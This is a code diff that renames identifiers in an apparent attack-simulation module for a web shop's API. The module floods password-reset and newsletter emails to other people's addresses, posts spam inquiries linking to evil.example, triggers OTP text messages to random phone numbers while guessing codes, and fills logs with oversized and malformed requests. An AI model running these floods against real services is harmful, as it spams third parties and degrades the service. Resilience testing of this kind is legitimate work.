@@ -1,19 +1,19 @@
 import { newCustomer } from '../site/customer.js';
 import {
   repeat,
-  any,
-  anyAddress,
-  anyNumber,
+  randomToken,
+  randomLoopbackAddress,
+  randomMobileNumber,
   get,
-  lengthMs,
+  attackDurationMs,
   post,
   send,
   type Target,
 } from './send.js';
 
-export const evilWords = 'Win at https://evil.example now. ';
+export const spamText = 'Win at https://evil.example now. ';
 
-const stranger = () => `stranger-${any()}@example.com`;
+const stranger = () => `stranger-${randomToken()}@example.com`;
 
 /**
  * Triggers emails to other people's addresses through every route that sends mail, and submits inquiries from an
@@ -23,8 +23,8 @@ export async function mailFlood(target: Target) {
   const lost = () => send(target, post('/api/api/forgot-password', { email: stranger() }), 3000);
   const news = () => send(target, post('/api/api/subscribe', { email: stranger() }), 3000);
   await Promise.all([
-    repeat(lengthMs / 100, 100, lost),
-    repeat(lengthMs / 100, 100, news),
+    repeat(attackDurationMs / 100, 100, lost),
+    repeat(attackDurationMs / 100, 100, news),
     // Rate limits may reject the registration.
     submitMany(target, 40).catch(() => undefined),
   ]);
@@ -32,20 +32,20 @@ export async function mailFlood(target: Target) {
 
 /** Submits inquiries with the spam text from an account with another person's address. Returns their statuses. */
 export async function submitMany({ url }: Target, times: number) {
-  const { email, uid, send: call } = await newCustomer(url, anyAddress());
+  const { email, uid, send: call } = await newCustomer(url, randomLoopbackAddress());
   const all = (await call('GET', '/api/api/all')).json() as { _id: string }[];
   const statuses: number[] = [];
   for (let quantity = 1000; quantity < 1000 + times; quantity += 1) {
     const products = [{ productId: all[0]?._id, quantity, note: 'x'.repeat(300) }];
-    const body = { uid, contactPhone: '', message: '', note: evilWords.repeat(60), products };
+    const body = { uid, contactPhone: '', message: '', note: spamText.repeat(60), products };
     statuses.push((await call('POST', '/api/api/submitInquiry', { body })).status);
   }
   return { email, statuses };
 }
 
 export async function codeFlood(target: Target) {
-  await repeat(lengthMs / 40, 40, () => {
-    const phone = anyNumber();
+  await repeat(attackDurationMs / 40, 40, () => {
+    const phone = randomMobileNumber();
     send(target, post('/api/api/send-otp', { phone }), 3000);
     send(target, post('/api/api/verify-otp', { phone, otp: '0000' }), 3000);
   });
@@ -55,9 +55,9 @@ const report = { 'csp-report': { 'violated-directive': 'script-src', 'blocked-ur
 
 /** Sends requests that cause log entries: long URLs, reports, malformed requests. */
 export async function logFlood(target: Target) {
-  await repeat(lengthMs / 10, 10, () => {
+  await repeat(attackDurationMs / 10, 10, () => {
     send(target, get(`/api/${'x'.repeat(14_000)}`), 1000);
     send(target, post('/api/api/csp-report', report, 'application/csp-report'), 1000);
-    send(target, `${any()}\r\n\r\n`, 1000);
+    send(target, `${randomToken()}\r\n\r\n`, 1000);
   });
 }
